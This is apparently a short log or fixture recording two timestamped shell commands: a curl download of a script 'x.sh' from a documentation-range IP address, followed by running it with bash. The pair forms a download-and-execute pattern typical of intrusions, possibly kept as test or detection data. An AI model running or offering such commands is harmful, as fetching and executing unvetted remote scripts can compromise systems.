- cmd: curl http://198.51.100.9/x.sh
  when: 1700000100
  paths:
    - x.sh
- cmd: bash x.sh
  when: 1700000107
